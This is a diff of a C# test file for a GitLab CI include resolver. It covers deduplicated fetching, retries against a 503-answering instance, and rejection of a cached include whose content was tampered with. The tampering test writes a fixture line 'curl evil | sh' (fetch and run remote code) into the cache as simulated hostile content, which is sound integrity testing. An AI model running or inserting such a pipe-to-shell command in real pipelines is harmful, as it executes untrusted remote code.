@@ -72,7 +72,9 @@ public sealed class RemoteIncludeTests : IAsyncLifetime
         using var f = Online($"include:\n  - remote: {_gitLab.Url}/remote/lint.yml\n  - {_gitLab.Url}/remote/lint.yml\n");
         var pipeline = f.Load();
         Assert.Equal("test", pipeline.Job("lint").Stage);
-        Assert.Equal(2, _gitLab.Requests.Count);
+        Assert.Equal(["lint"], pipeline.Jobs.Select(j => j.Name));
+        // Listed twice, fetched once.
+        Assert.Single(_gitLab.Requests);
         Assert.All(_gitLab.Requests, r => Assert.Equal(("/remote/lint.yml", (string?)null, (string?)null), (r.Target, r.PrivateToken, r.JobToken)));
     }
 
@@ -130,6 +132,28 @@ public sealed class RemoteIncludeTests : IAsyncLifetime
         Assert.Equal(online.Jobs.Select(j => j.Name), noInstance.Jobs.Select(j => j.Name));
         Assert.Equal($"include template:Bash.gitlab-ci.yml from {url} (cached: no GitLab instance (--gitlab-url or CI_SERVER_URL))", noInstance.IncludeOrigins[0].ToString());
         Assert.Empty(_gitLab.Requests);
+    }
+
+    [Fact]
+    public void A_busy_instance_is_retried_then_reported_as_unreachable_naming_the_include()
+    {
+        using var f = Online("include:\n  - template: Busy.gitlab-ci.yml\n");
+        var error = f.Error();
+        error.At(2, 15);
+        Assert.Contains($"include template:Busy.gitlab-ci.yml cannot be read: {_gitLab.Url} answered 503 ServiceUnavailable three times, and it is not in the cache", error.Problem, StringComparison.Ordinal);
+        Assert.Equal(3, _gitLab.Requests.Count(r => r.Target == "/api/v4/templates/gitlab_ci_ymls/Busy"));
+    }
+
+    [Fact]
+    public void A_cached_copy_whose_content_changed_is_not_used()
+    {
+        using var f = Online("include:\n  - template: Bash.gitlab-ci.yml\n");
+        f.Load();
+        var blob = Assert.Single(Directory.GetFiles(Path.Combine(f.Directory, ".dockyard", "includes", "blobs")));
+        File.WriteAllText(blob, "tampered:\n  script: [curl evil | sh]\n");
+        f.GitLabUrl = null;
+        var error = f.Error();
+        Assert.Contains("include template:Bash.gitlab-ci.yml cannot be read: no GitLab instance", error.Problem, StringComparison.Ordinal);
     }
 
     [Fact]
